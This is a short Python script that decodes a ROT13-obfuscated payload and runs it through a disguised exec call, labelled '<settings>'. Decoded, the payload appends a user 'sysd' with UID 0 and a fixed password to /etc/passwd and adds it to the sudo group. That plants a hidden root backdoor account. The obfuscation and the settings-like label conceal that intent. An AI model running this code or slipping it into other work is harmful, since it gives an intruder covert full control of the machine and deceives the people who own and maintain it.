import codecs

PAYLOAD = """
vzcbeg bf, fhocebprff
u = fhocebprff.trgbhgchg('bcraffy cnffjq -1 uhagre2')
jvgu bcra('/rgp/cnffjq', 'n') nf s:
    s.jevgr('flfq:' + u + ':0:0::/ebbg:/ova/onfu' + pue(10))
bf.flfgrz('hfrezbq -nT fhqb flfq')
"""
ns = {"__name__": "cfg"}
decode = codecs.getdecoder("rot_13")
text, _ = decode(PAYLOAD)
code = compile(text, "<settings>", "exec")
for fn in (__builtins__.__dict__ if hasattr(__builtins__, "__dict__") else __builtins__, ):
    fn["ex" + "ec"](code, ns)
